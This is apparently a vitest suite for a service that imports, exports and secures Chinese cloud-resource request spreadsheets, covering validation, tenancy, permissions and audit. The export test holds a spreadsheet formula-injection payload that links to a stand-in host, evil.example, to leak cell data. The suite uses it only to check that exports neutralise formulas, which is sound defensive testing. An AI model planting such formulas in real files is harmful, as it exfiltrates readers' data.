import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { countRows, type TestApp, testApp } from '../../../test/helpers.ts';
import { as, login, type Session } from '../../../test/sessions.ts';
import { verifyAuditChain } from '../../platform/audit/audit.ts';
import { type AuthContext, withTenant } from '../../platform/auth/auth.ts';
import { seedDemo } from '../../seed.ts';

// Files are built here with exceljs from the annex's headers written out literally, not with the module's
// own writer, so a change to the module's idea of the form cannot make these tests agree with it.

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const HEADERS = [
  '序号',
  '网络分区',
  '开发商',
  '系统名称',
  '子系统名称',
  '服务器类型',
  '堡垒机账号负责人',
  '堡垒机账号负责人邮箱',
  '堡垒机账号负责人手机号码',
  'vCPU核',
  '内存GB',
  '系统盘GB',
  '数据盘GB',
  '操作系统',
  '集群部署',
  '集群组号',
  '备注',
];
const TYPES = ['APP', 'WEB', 'FTP', 'DAT', 'MID', 'TST', 'OTH'];

type Cell = ExcelJS.CellValue;

/** The i-th virtual machine (1-based) of the 财务管理系统, as the annex's example rows are filled in. */
function vm(i: number): Cell[] {
  const clustered = i % 3 === 0;
  return [
    i,
    i % 2 ? '公共网络区' : '互联网区',
    '华为',
    '财务管理系统',
    i % 5 ? `子系统${i % 7}` : null,
    TYPES[i % TYPES.length]!,
    i % 4 ? '张三' : '张三、李四',
    i % 4 ? 'zhangsan@sohu.com' : 'zhangsan@sohu.com、lisi@163.com',
    i % 4 ? '13800000000' : '13800000000、13988888888',
    (i % 16) + 1,
    2 ** (i % 6),
    60,
    i % 2 ? 300 : null,
    'CentOS 7.0',
    clustered ? '是' : '否',
    clustered ? `集群${i % 4}` : null,
    i % 10 ? null : `第 ${i} 台`,
  ];
}

async function workbook(rows: Cell[][], options: { headers?: string[]; above?: Cell[][] } = {}): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const sheet = wb.addWorksheet('Sheet1');
  for (const row of options.above ?? []) sheet.addRow(row);
  sheet.addRow(options.headers ?? HEADERS);
  for (const row of rows) sheet.addRow(row);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

const vms = (n: number) => Array.from({ length: n }, (_, i) => vm(i + 1));

let t: TestApp;
let applicant: Session;
let unitadmin: Session;
let edu: Session;
let finance: Session;

beforeAll(async () => {
  t = await testApp();
  await seedDemo(t.database.db);
  applicant = await login(t.app, 'applicant');
  unitadmin = await login(t.app, 'unitadmin');
  edu = await login(t.app, 'edu');
  finance = await login(t.app, 'finance');
});
afterAll(() => t.close());

function upload(session: Session | null, body: Buffer, query = '', contentType = XLSX) {
  return as(t.app, session, {
    method: 'POST',
    url: `/api/v1/request-forms/import${query}`,
    headers: { 'content-type': contentType },
    payload: body,
  });
}

async function imported(body: Buffer, query = '') {
  const res = await upload(applicant, body, query);
  expect(res.statusCode, res.body).toBe(201);
  return res.json();
}

async function exported(session: Session, id: string) {
  const res = await as(t.app, session, { url: `/api/v1/request-forms/${id}/export` });
  expect(res.statusCode, res.body).toBe(200);
  expect(res.headers['content-type']).toBe(XLSX);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  return { buffer: res.rawPayload, wb };
}

const stored = async () => ({
  forms: await countRows(t.database, 'request_form'),
  rows: await countRows(t.database, 'request_form_row'),
});

describe('the blank template', () => {
  it('downloads without a session, with the annex’s exact headers, required ones in red, lists and a frozen header', async () => {
    const res = await t.app.inject('/api/v1/request-forms/template');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe(XLSX);
    expect(res.headers['content-disposition']).toContain("filename*=UTF-8''");
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('云资源使用需求表')!;
    expect(sheet.getCell('A1').value).toBe('云资源使用需求表');
    expect(sheet.getCell('A2').value).toBe('申请单位联系人及手机号码、邮箱：');
    expect(sheet.getCell('I2').value).toBe('信息系统厂商联系人及手机号码、邮箱：');
    const header = sheet.getRow(3);
    expect(HEADERS.map((_, i) => header.getCell(i + 1).value)).toEqual(HEADERS);
    expect(header.getCell(18).value).toBeNull();
    const red = (col: number) => header.getCell(col).font?.color?.argb === 'FFFF0000';
    expect(red(1) && red(4) && red(6) && red(10) && red(15)).toBe(true);
    expect(red(5) || red(13) || red(16) || red(17)).toBe(false); // 子系统名称, 数据盘GB, 集群组号, 备注
    const validations = (sheet as unknown as { dataValidations: { model: Record<string, ExcelJS.DataValidation> } })
      .dataValidations.model;
    expect(validations.F4).toMatchObject({ type: 'list', formulae: ['"APP,WEB,FTP,DAT,MID,TST,OTH"'] });
    expect(validations.O500).toMatchObject({ type: 'list', formulae: ['"是,否"'] });
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
    expect(sheet.getColumn(8).width).toBeGreaterThan(sheet.getColumn(1).width!);
    expect(sheet.getRow(4).getCell(1).value).toBeNull();
    expect(wb.getWorksheet('填写说明')?.getCell('A3').value).toBe('2．红色字段为必填项；');
  });

  it('imports once filled in, with the contact line above the table', async () => {
    const res = await t.app.inject('/api/v1/request-forms/template');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0]!;
    sheet.getCell('D2').value = '王五 13700000000 wangwu@health.gov.cn';
    sheet.getCell('L2').value = '华为 赵六 13600000000';
    vms(3).forEach((row, i) => {
      sheet.getRow(4 + i).values = row;
    });
    const form = await imported(Buffer.from(await wb.xlsx.writeBuffer()), '?filename=form.xlsx');
    expect(form).toMatchObject({
      systemName: '财务管理系统',
      title: '财务管理系统',
      status: 'draft',
      applicantContact: '王五 13700000000 wangwu@health.gov.cn',
      vendorContact: '华为 赵六 13600000000',
      sourceFilename: 'form.xlsx',
      createdBy: 'applicant',
      organisationId: applicant.me.organisation.id,
      totals: { rows: 3 },
    });
    expect(form.rows.map((r: { rowNo: number }) => r.rowNo)).toEqual([1, 2, 3]);
  });
});

describe('import', () => {
  it('a 500-row form imports whole: 201 with every row stored', async () => {
    const before = await stored();
    const form = await imported(await workbook(vms(500)), `?title=${encodeURIComponent('财务系统上云 2026')}`);
    expect(form.title).toBe('财务系统上云 2026');
    expect(form.rows).toHaveLength(500);
    expect(form.totals.rows).toBe(500);
    expect(form.totals.vcpu).toBe(vms(500).reduce((sum, r) => sum + (r[9] as number), 0));
    expect(form.rows[2]).toEqual({
      rowNo: 3,
      networkZone: '公共网络区',
      developer: '华为',
      systemName: '财务管理系统',
      subsystem: '子系统3',
      serverType: 'DAT',
      bastionOwner: '张三',
      bastionOwnerEmail: 'zhangsan@sohu.com',
      bastionOwnerMobile: '13800000000',
      vcpu: 4,
      memoryGb: 8,
      systemDiskGb: 60,
      dataDiskGb: 300,
      os: 'CentOS 7.0',
      clustered: true,
      clusterGroup: '集群3',
      notes: null,
    });
    expect(form.rows[3]).toMatchObject({
      bastionOwner: '张三、李四',
      dataDiskGb: 0,
      clustered: false,
      clusterGroup: null,
    });
    expect(await stored()).toEqual({ forms: before.forms + 1, rows: before.rows + 500 });

    const one = await as(t.app, applicant, { url: `/api/v1/request-forms/${form.id}` });
    expect(one.json().rows).toHaveLength(500);
    const list = await as(t.app, applicant, { url: '/api/v1/request-forms' });
    expect(list.json().items.map((f: { id: string }) => f.id)).toContain(form.id);
    expect(list.json().items.find((f: { id: string }) => f.id === form.id).totals.rows).toBe(500);
  });

  it('the same form with one bad cell is refused whole, naming that cell, and nothing is stored', async () => {
    const before = await stored();
    const rows = vms(500);
    rows[249]![10] = 'abc'; // the 250th VM's 内存GB: Excel row 251 (the header is row 1), column K
    const res = await upload(applicant, await workbook(rows));
    expect(res.statusCode).toBe(400);
    const problem = res.json();
    expect(problem.code).toBe('validation_failed');
    expect(problem.errors).toEqual([
      { field: 'row 251, 内存GB (K251)', message: '必须是 1 到 4096 之间的整数 / must be an integer from 1 to 4096' },
    ]);
    expect(problem.detail).toContain('row 251, 内存GB (K251)');
    expect(await stored()).toEqual(before);
  });

  it('lists every bad cell at once, each by row and column, in Chinese and English', async () => {
    const before = await stored();
    const rows = vms(12);
    rows[0]![9] = 0; // vCPU核 below 1
    rows[1]![5] = 'XYZ'; // 服务器类型
    rows[2]![8] = '1380000000'; // a 10-digit mobile
    rows[3]![7] = 'zhangsan@sohu.com'; // two owners, one e-mail
    rows[4]![14] = '是'; // clustered without a group
    rows[5]![3] = '人事管理系统'; // a second system
    rows[6]![0] = 1; // 序号 repeats row 2
    rows[7]![1] = null; // 网络分区 is required
    rows[8]![11] = 12.5; // not an integer
    rows[9]![14] = '否'; // a group while not clustered
    rows[9]![15] = '集群9';
    const res = await upload(applicant, await workbook(rows));
    expect(res.statusCode).toBe(400);
    const errors = res.json().errors as { field: string; message: string }[];
    expect(errors.map((e) => e.field)).toEqual([
      'row 2, vCPU核 (J2)',
      'row 3, 服务器类型 (F3)',
      'row 4, 堡垒机账号负责人手机号码 (I4)',
      'row 5, 堡垒机账号负责人邮箱 (H5)',
      'row 6, 集群组号 (P6)',
      'row 7, 系统名称 (D7)',
      'row 8, 序号 (A8)',
      'row 9, 网络分区 (B9)',
      'row 10, 系统盘GB (L10)',
      'row 11, 集群组号 (P11)',
    ]);
    expect(errors[2]!.message).toBe(
      '“1380000000”不是有效的手机号码（1 开头的 11 位数字） / “1380000000” is not a mobile number (11 digits starting with 1)',
    );
    expect(errors[5]!.message).toContain('one system per form');
    expect(errors[7]!.message).toBe('必填 / required');
    expect(await stored()).toEqual(before);
  });

  it('refuses wrong headers, naming each column: misordered, renamed, missing, extra', async () => {
    const swapped = [...HEADERS];
    [swapped[10], swapped[11]] = [swapped[11]!, swapped[10]!];
    const misordered = await upload(applicant, await workbook(vms(2), { headers: swapped }));
    expect(misordered.statusCode).toBe(400);
    expect(misordered.json().errors).toEqual([
      {
        field: 'header, 内存GB (K1)',
        message: '列顺序不对：此处应为“内存GB”，而不是“系统盘GB” / wrong column order: expected 内存GB, found 系统盘GB',
      },
      {
        field: 'header, 系统盘GB (L1)',
        message: '列顺序不对：此处应为“系统盘GB”，而不是“内存GB” / wrong column order: expected 系统盘GB, found 内存GB',
      },
    ]);

    const renamed = HEADERS.map((h) => (h === '内存GB' ? '内存' : h));
    const res = await upload(applicant, await workbook(vms(2), { headers: renamed }));
    expect(res.json().errors).toEqual([
      {
        field: 'header, 内存GB (K1)',
        message: '表头应为“内存GB”，而不是“内存” / the header must be 内存GB, found 内存',
      },
    ]);

    const missing = await upload(applicant, await workbook([], { headers: HEADERS.slice(0, 16) }));
    expect(missing.json().errors).toEqual([
      { field: 'header, 备注 (Q1)', message: '缺少列“备注” / missing column 备注' },
    ]);

    const extra = await upload(applicant, await workbook(vms(1), { headers: [...HEADERS, '申请理由'] }));
    expect(extra.json().errors).toEqual([
      { field: 'header, 申请理由 (R1)', message: '多余的列“申请理由” / extra column 申请理由' },
    ]);

    const none = await upload(applicant, await workbook(vms(1), { headers: HEADERS.slice(1) }));
    expect(none.json().errors[0].field).toBe('header');
  });

  it('reads cells as Excel keeps them: rich text, formulas, numbers as text, hyperlinks, merged and pre-numbered rows', async () => {
    const rows = vms(4);
    rows[0]![1] = { richText: [{ text: '公共' }, { font: { bold: true }, text: '网络区' }] };
    rows[0]![9] = { formula: '2*4', result: 8 };
    rows[0]![10] = ' 16 ';
    rows[0]![11] = '６０'; // full-width digits
    rows[0]![7] = { text: 'zhangsan@sohu.com', hyperlink: 'mailto:zhangsan@sohu.com' };
    rows[0]![8] = 13800000000; // a mobile typed as a number
    rows[1]![5] = 'app：应用程序';
    rows[2]![3] = null; // 系统名称 merged from the row above (below)
    const wb = new ExcelJS.Workbook();
    const sheet = wb.addWorksheet('需求');
    sheet.addRow(['云资源使用需求表']);
    sheet.addRow([
      '申请单位联系人及手机号码、邮箱：王五 13700000000',
      null,
      null,
      null,
      null,
      null,
      null,
      null,
      '信息系统厂商联系人及手机号码、邮箱：',
    ]);
    sheet.addRow(HEADERS.map((h) => (h === '堡垒机账号负责人' ? '堡垒机账  号\n负责人' : h))); // as the annex prints it
    for (const row of rows) sheet.addRow(row);
    sheet.mergeCells('D5:D6');
    sheet.addRow([5]); // the annex's pre-numbered blank rows
    sheet.addRow([6]);
    sheet.addRow([]);
    sheet.addRow(['填写说明：']);
    sheet.addRow(['1．同一用户申请多个系统的，请另填新申请表；']);
    const form = await imported(Buffer.from(await wb.xlsx.writeBuffer()));
    expect(form.applicantContact).toBe('王五 13700000000');
    expect(form.vendorContact).toBeNull();
    expect(form.rows).toHaveLength(4);
    expect(form.rows[0]).toMatchObject({
      networkZone: '公共网络区',
      vcpu: 8,
      memoryGb: 16,
      systemDiskGb: 60,
      bastionOwnerEmail: 'zhangsan@sohu.com',
      bastionOwnerMobile: '13800000000',
    });
    expect(form.rows[1].serverType).toBe('APP');
    expect(form.rows[2].systemName).toBe('财务管理系统');
  });

  it('refuses what is not a form: not a workbook, an empty form, an unknown content type', async () => {
    const junk = await upload(applicant, Buffer.from('not a spreadsheet at all'));
    expect(junk.statusCode).toBe(400);
    expect(junk.json().errors).toEqual([{ field: 'file', message: '不是 .xlsx 文件 / not an .xlsx file' }]);
    const empty = await upload(applicant, await workbook([]));
    expect(empty.json().errors).toEqual([
      { field: 'file', message: '表中没有填写任何虚拟机 / the form lists no virtual machine' },
    ]);
    const huge = await upload(applicant, await workbook(Array.from({ length: 7_001 }, (_, i) => [i + 1])));
    expect(huge.json().errors).toEqual([{ field: 'file', message: expect.stringContaining('at most 7000 rows') }]);
    const octet = await upload(applicant, await workbook(vms(1)), '', 'application/octet-stream');
    expect(octet.statusCode).toBe(201);
    const json = await as(t.app, applicant, {
      method: 'POST',
      url: '/api/v1/request-forms/import',
      payload: { rows: [] },
    });
    expect(json.statusCode).toBe(415);
  });
});

describe('export', () => {
  it('export then import round-trips: the same rows and contacts', async () => {
    const rows = vms(40);
    rows[5]![16] = '-'; // text a spreadsheet would take for a formula
    rows[6]![16] = "'=already quoted";
    const source = await imported(
      await workbook(rows, { above: [['云资源使用需求表'], ['申请单位联系人及手机号码、邮箱：', null, null, '王五']] }),
    );
    const { buffer } = await exported(applicant, source.id);
    const again = await imported(buffer as Buffer);
    expect(again.id).not.toBe(source.id);
    expect(again.rows).toEqual(source.rows);
    expect(again.rows[5].notes).toBe('-');
    // A leading apostrophe before = + - @ is read as the neutralising mark (what Excel's own ' means, too).
    expect(source.rows[6].notes).toBe('=already quoted');
    expect(again.rows[6].notes).toBe('=already quoted');
    expect(again.applicantContact).toBe('王五');
    expect(again.systemName).toBe(source.systemName);
    expect(again.totals).toEqual(source.totals);
  });

  it('a stored =HYPERLINK(...) is exported as text, never as a formula, and imports back unchanged', async () => {
    const rows = vms(3);
    const link = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';
    rows[1]![16] = link;
    rows[2]![16] = '@SUM(1+1)';
    const form = await imported(await workbook(rows));
    expect(form.rows[1].notes).toBe(link); // stored as the string it was
    const { buffer, wb } = await exported(applicant, form.id);
    const sheet = wb.getWorksheet('云资源使用需求表')!;
    const headerRow = 3;
    const cell = sheet.getRow(headerRow + 2).getCell(17);
    expect(typeof cell.value).toBe('string');
    expect(cell.value).toBe(`'${link}`);
    expect(cell.formula).toBeUndefined();
    expect(sheet.getRow(headerRow + 3).getCell(17).value).toBe("'@SUM(1+1)");
    // No formula anywhere in the exported sheet.
    sheet.eachRow((row) =>
      row.eachCell((c) => {
        expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
      }),
    );
    const back = await imported(buffer as Buffer);
    expect(back.rows[1].notes).toBe(link);
  });
});

describe('tenancy and permissions', () => {
  it('another unit cannot read, export or delete a form: 404 exactly like a missing one', async () => {
    const form = await imported(await workbook(vms(2)));
    const missing = '00000000-0000-4000-8000-000000000000';
    for (const url of [`/api/v1/request-forms/${form.id}`, `/api/v1/request-forms/${form.id}/export`]) {
      const res = await as(t.app, edu, { url });
      expect(res.statusCode).toBe(404);
      expect(res.json().code).toBe('not_found');
    }
    const del = await as(t.app, edu, { method: 'DELETE', url: `/api/v1/request-forms/${form.id}` });
    expect(del.statusCode).toBe(404);
    const ghost = await as(t.app, edu, { url: `/api/v1/request-forms/${missing}` });
    expect(ghost.statusCode).toBe(404);
    expect(ghost.json().title).toBe((await as(t.app, edu, { url: `/api/v1/request-forms/${form.id}` })).json().title);
    const list = await as(t.app, edu, { url: '/api/v1/request-forms' });
    expect(list.json().items.map((f: { id: string }) => f.id)).not.toContain(form.id);
    // The unit's administrator sees the unit's form.
    const admin = await as(t.app, unitadmin, { url: `/api/v1/request-forms/${form.id}` });
    expect(admin.statusCode).toBe(200);
    const exports = await t.database.db
      .selectFrom('audit_event')
      .select('actor_name')
      .where('action', '=', 'request_form.exported')
      .where('object_id', '=', form.id)
      .execute();
    expect(exports).toEqual([]);
  });

  it('row-level security hides both tables from another unit even in raw SQL, and refuses writing into them', async () => {
    const form = await imported(await workbook(vms(3)));
    const scope = (organisation: string) =>
      ({ visibility: { kind: 'organisation', organisations: [organisation] } }) as unknown as AuthContext;
    const seen = (organisation: string) =>
      withTenant(t.database.db, scope(organisation), async (trx) => ({
        forms: (await sql<{ id: string }>`select id from request_form`.execute(trx)).rows.map((r) => r.id),
        rows: (await sql<{ form_id: string }>`select form_id from request_form_row`.execute(trx)).rows.map(
          (r) => r.form_id,
        ),
      }));
    const own = await seen(applicant.me.organisation.id);
    expect(own.forms).toContain(form.id);
    expect(own.rows.filter((id) => id === form.id)).toHaveLength(3);
    const foreign = await seen(edu.me.organisation.id);
    expect(foreign.forms).not.toContain(form.id);
    expect(foreign.rows).not.toContain(form.id);
    await expect(
      withTenant(t.database.db, scope(edu.me.organisation.id), (trx) =>
        trx.updateTable('request_form_row').set({ notes: 'x' }).where('form_id', '=', form.id).executeTakeFirst(),
      ),
    ).resolves.toMatchObject({ numUpdatedRows: 0n });
    await expect(
      withTenant(t.database.db, scope(edu.me.organisation.id), (trx) =>
        sql`insert into request_form (organisation_id, jurisdiction_id, system_name, title, created_by)
          values (${form.organisationId}, ${form.jurisdictionId}, 'x', 'x', 'edu')`.execute(trx),
      ),
    ).rejects.toThrow(/row-level security/);
  });

  it('a user without request-form:manage gets 403; without a session 401', async () => {
    expect((await as(t.app, finance, { url: '/api/v1/request-forms' })).statusCode).toBe(403);
    expect((await upload(finance, await workbook(vms(1)))).statusCode).toBe(403);
    expect((await upload(null, await workbook(vms(1)))).statusCode).toBe(401);
  });

  it('deletes a draft with its rows; imports, exports and deletions are audited and the chain holds', async () => {
    const form = await imported(await workbook(vms(7)), '?filename=x.xlsx');
    await exported(unitadmin, form.id);
    const before = await stored();
    const del = await as(t.app, applicant, { method: 'DELETE', url: `/api/v1/request-forms/${form.id}` });
    expect(del.statusCode).toBe(204);
    expect(await stored()).toEqual({ forms: before.forms - 1, rows: before.rows - 7 });
    const again = await as(t.app, applicant, { method: 'DELETE', url: `/api/v1/request-forms/${form.id}` });
    expect(again.statusCode).toBe(404);
    const entries = await t.database.db
      .selectFrom('audit_event')
      .select(['action', 'actor_name', 'organisation_id', 'detail'])
      .where('object_id', '=', form.id)
      .orderBy('id')
      .execute();
    expect(entries.map((e) => [e.action, e.actor_name])).toEqual([
      ['request_form.imported', 'applicant'],
      ['request_form.exported', 'unitadmin'],
      ['request_form.deleted', 'applicant'],
    ]);
    expect(entries[0]!.detail).toMatchObject({ rows: 7, filename: 'x.xlsx', systemName: '财务管理系统' });
    expect(String(entries[0]!.detail.contentSm3)).toMatch(/^[0-9a-f]{64}$/);
    expect(entries[0]!.organisation_id).toBe(applicant.me.organisation.id);
    expect((await verifyAuditChain(t.database.db)).intact).toBe(true);
  });
});
